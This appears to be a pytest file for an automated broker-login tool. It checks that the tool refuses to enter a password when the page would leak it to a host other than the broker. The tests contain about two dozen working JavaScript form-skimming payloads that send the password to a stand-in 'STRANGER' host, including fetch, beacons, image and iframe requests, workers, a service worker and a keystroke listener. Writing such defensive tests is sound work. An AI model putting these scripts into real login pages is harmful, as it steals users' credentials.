"""What is typed goes to the broker alone: a listening stranger on another address hears nothing of it."""

from __future__ import annotations

import io
from contextlib import asynccontextmanager

import pytest
import yaml
from replicas import pages
from replicas.kite import KEY, PASSWORD, SEED, Kite, Variant
from replicas.web import Said, Site, page, redirect
from support.clock import FastClock
from support.leaks import leaks

from autologin import log
from autologin import run as walk
from autologin.app import App
from autologin.config import loader

HERE = "127.0.0.1"
THERE = "127.0.0.2"
LOGIN = pages.form_login()


def on_submit(script):
    """The login page, with a script that also sends the password away when the form is sent."""
    return (
        LOGIN
        + f"""<script>
const form = document.forms[0], pw = () => form.password.value, to = 'STRANGER';
form.addEventListener('submit', event => {{ {script} }});
</script>"""
    )


BEFORE_TYPING = {
    "action": LOGIN.replace("action=/session/form", "action=STRANGER/session/form"),
    "formaction": LOGIN.replace("type=submit", "type=submit formaction=STRANGER/session/form"),
    "base": LOGIN.replace("action=/session", "action=session").replace(
        "<title>", "<base href=STRANGER/><title>"
    ),
    "mailto": LOGIN.replace("action=/session/form", "action=mailto:someone@example.com"),
    "the page itself, by a script": "<script>location = 'STRANGER/connect/login'</script>",
    "the page itself, by a refresh": "<meta http-equiv=refresh content='0;STRANGER/connect/login'>",
}
AS_IT_LEAVES = {
    "action at the last moment": on_submit("form.action = to + '/x';"),
    "fetch": on_submit("fetch(to, {method: 'POST', body: JSON.stringify({p: pw()})});"),
    "fetch without cors": on_submit(
        "fetch(to, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'p=' + pw()});"
    ),
    "a header": on_submit(
        "fetch(to, {headers: {Authorization: 'Basic ' + btoa('u:' + "
        "unescape(encodeURIComponent(pw())))}});"
    ),
    "base64 in JSON": on_submit(
        "const b = new TextEncoder().encode(JSON.stringify({u: 1, deep: {p: pw()}}));"
        "fetch(to, {method: 'POST', body: JSON.stringify({d: btoa(String.fromCharCode(...b))})});"
    ),
    "encoded twice": on_submit(
        "fetch(to + '/?q=' + encodeURIComponent(encodeURIComponent(pw())));"
    ),
    "xhr": on_submit("const x = new XMLHttpRequest(); x.open('POST', to); x.send(pw());"),
    "beacon": on_submit("navigator.sendBeacon(to, new URLSearchParams({p: pw()}));"),
    "a blob": on_submit("navigator.sendBeacon(to, new Blob([pw()])); fetch(to + '?' + pw());"),
    "one word with another": on_submit("fetch(to, {method: 'POST', body: 'u' + pw() + '123456'});"),
    "another alphabet": on_submit("form.acceptCharset = 'iso-8859-1'; form.action = to + '/x';"),
    "a large body": on_submit(
        "form.append(Object.assign(document.createElement('textarea'),"
        "{name: 'a', value: 'x'.repeat(1100000)})); form.append(form.querySelector('table'));"
        "form.action = to + '/x';"
    ),
    "multipart": on_submit("fetch(to, {method: 'POST', body: new FormData(form)});"),
    "a picture": on_submit("new Image().src = to + '/i.png?p=' + encodeURIComponent(pw());"),
    "a path": on_submit("new Image().src = to + '/' + encodeURIComponent(pw());"),
    "a frame": on_submit(
        "document.body.append(Object.assign(document.createElement('iframe'),"
        "{src: to + '/?' + encodeURIComponent(pw())}));"
    ),
    "a window": on_submit("window.open(to + '/?' + encodeURIComponent(pw()));"),
    "an address": on_submit(
        "event.preventDefault(); location = to + '/?' + encodeURIComponent(pw());"
    ),
    "a style": on_submit(
        "document.body.style.background = `url('${to}/?${encodeURIComponent(pw())}')`;"
    ),
    "a worker": on_submit(
        "event.preventDefault();"
        "const w = new Worker(URL.createObjectURL(new Blob([`onmessage = e => "
        "fetch('${to}', {method: 'POST', body: e.data})`]))); w.postMessage(pw());"
    ),
    "server-sent events": on_submit("new EventSource(to + '/?' + encodeURIComponent(pw()));"),
    "as it is typed": LOGIN
    + """<script>
document.forms[0].password.addEventListener('input', event =>
  fetch('STRANGER', {method: 'POST', body: event.target.value}));
</script>""",
}


class Stranger(Site):
    """Somebody else, who listens. `serves` answers for the broker."""

    def __init__(self, clock, serves=None):
        super().__init__(self._answer, clock, THERE)
        self.heard = []
        self.serves = serves

    async def _answer(self, asked):
        self.heard.append((asked.method, asked.path, asked.query, asked.headers, asked.raw))
        if self.serves:
            return await self.serves(asked)
        return page(LOGIN, access_control_allow_origin="*", access_control_allow_headers="*")

    @property
    def told(self):
        """What it heard of what was typed; that somebody came is no secret."""
        return leaks([PASSWORD], [repr(one) for one in self.heard])


@pytest.fixture
async def visit(tmp_path):
    """Run the account of a config against a page."""
    heard = io.StringIO()
    log.configure(verbose=True, stream=heard)
    clock = FastClock()

    async def run(kite, **account):
        content = kite.config()
        content["accounts"]["zerodha"] |= account
        file = tmp_path / "config.yaml"
        file.touch(mode=0o600)
        file.write_text(yaml.safe_dump(content, allow_unicode=True))
        app = App.open(loader.load(file, {"HOME": str(tmp_path)}), clock)
        try:
            (outcome,) = await walk.run_accounts(app, list(app.settings.accounts.values()))
            run.block = app.store.attempts.current_block("zerodha")
        finally:
            app.store.close()
        assert leaks([*kite.secrets, SEED], [heard.getvalue(), tmp_path / "state"]) == []
        return outcome

    run.clock, run.heard = clock, heard
    return run


@asynccontextmanager
async def broker(clock, html="", *, serves=False, **variant):
    """A Kite whose pages know a stranger's address, and that stranger."""
    kite = Kite(Variant(page=html, **variant), clock)
    async with kite, Stranger(clock, kite._web if serves else None) as stranger:
        kite.variant.page = html.replace("STRANGER", stranger.origin)
        yield kite, stranger


def assert_refused(outcome):
    assert outcome.error, outcome
    assert outcome.error.name == "page_changed"
    assert "login_hosts" in outcome.error.message


@pytest.mark.parametrize("way", BEFORE_TYPING)
async def test_nothing_is_typed_where_it_would_go_elsewhere(visit, way):
    async with broker(visit.clock, BEFORE_TYPING[way]) as (kite, stranger):
        outcome = await visit(kite)
        assert_refused(outcome)
        assert ("mailto:" if way == "mailto" else THERE) in outcome.error.detail
        assert "nothing was typed" in outcome.error.detail
        assert (stranger.told, kite.passwords) == ([], [])
        assert visit.block is None


@pytest.mark.parametrize("way", AS_IT_LEAVES)
async def test_what_is_typed_is_stopped_as_it_leaves(visit, way):
    async with broker(visit.clock, AS_IT_LEAVES[way]) as (kite, stranger):
        outcome = await visit(kite)
        assert_refused(outcome)
        assert THERE in outcome.error.detail
        assert stranger.told == []
        assert visit.block is None


@pytest.mark.parametrize("status", [307, 308])
async def test_a_redirect_does_not_take_it_along(visit, status):
    async with broker(visit.clock, LOGIN) as (kite, stranger):
        kite.variant.login = lambda *_: redirect(f"{stranger.origin}/in", status)
        outcome = await visit(kite)
        assert_refused(outcome)
        assert stranger.heard == []
        assert kite.passwords == [PASSWORD]


async def test_a_service_worker_is_watched_too(visit):
    html = on_submit(
        "event.preventDefault(); navigator.serviceWorker.controller.postMessage(pw());"
    )
    html += """<script>
form.hidden = true;
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready);
navigator.serviceWorker.oncontrollerchange = () => { form.hidden = false; };
</script>"""
    async with broker(visit.clock, html) as (kite, stranger):
        worker = f"""
self.onactivate = event => event.waitUntil(clients.claim());
self.onmessage = event => fetch('{stranger.origin}', {{method: 'POST', body: event.data}});"""

        async def answer(asked):
            if asked.path == "/sw.js":
                return Said(worker, kind="text/javascript")
            return await kite._web(asked)

        kite.web.answer = answer
        outcome = await visit(kite)
        assert_refused(outcome)
        assert (stranger.heard, kite.passwords) == ([], [])


async def test_a_call_that_is_redirected_elsewhere_ends_the_login(visit):
    """The browser asks there first whether it may send it, which says nothing; it is not the broker all the same."""
    async with broker(visit.clock, pages.PLAIN) as (kite, stranger):
        kite.variant.login = lambda *_: redirect(f"{stranger.origin}/in", 307)
        outcome = await visit(kite)
        assert_refused(outcome)
        assert stranger.told == []
        assert visit.block is None


async def test_a_host_that_the_account_names_may_be_told(visit):
    async with broker(visit.clock, BEFORE_TYPING["action"], serves=True) as (kite, _):
        outcome = await visit(kite, login_hosts=[THERE])
        assert outcome.outcome == "issued", outcome.error
        assert kite.passwords == [PASSWORD]


async def test_a_hop_on_the_way_to_the_login_page_is_nobodys(visit):
    """A host that the broker's redirects pass is not where they end."""
    async with broker(visit.clock, BEFORE_TYPING["action"], mood={"other_port"}) as (
        kite,
        stranger,
    ):
        there, kite.other = kite.other.origin, stranger

        async def pass_on(asked):
            return redirect(f"{there}{asked.path}?sess_id={asked.query['sess_id']}&api_key={KEY}")

        stranger.serves = pass_on
        outcome = await visit(kite)
        assert_refused(outcome)
        assert (stranger.told, kite.passwords) == ([], [])


async def test_a_redirect_after_the_user_id_leads_to_nobody_of_the_brokers(visit):
    first = "<form method=post action=/next><label>User ID <input name=u></label><button>Next</button></form>"
    async with broker(visit.clock, first) as (kite, stranger):

        async def answer(asked):
            if asked.path == "/next":
                return redirect(f"{stranger.origin}/login", 303)
            return await kite._web(asked)

        kite.web.answer = answer
        outcome = await visit(kite)
        assert_refused(outcome)
        assert (stranger.told, kite.passwords) == ([], [])


async def test_a_login_page_to_which_the_broker_redirects_is_its_own(visit):
    async with broker(visit.clock, LOGIN, serves=True, mood={"other_port"}) as (kite, stranger):
        kite.other = stranger
        outcome = await visit(kite)
        assert outcome.outcome == "issued", outcome.error
        assert kite.passwords == [PASSWORD]
        assert stranger.told


async def test_a_stranger_may_be_called_with_anything_else(visit):
    html = on_submit("fetch(to, {method: 'POST', body: 'u=' + form.user_id.value + '&n=2026'});")
    async with broker(visit.clock, html) as (kite, stranger):
        outcome = await visit(kite)
        assert outcome.outcome == "issued", outcome.error
        assert len(stranger.heard) == 1
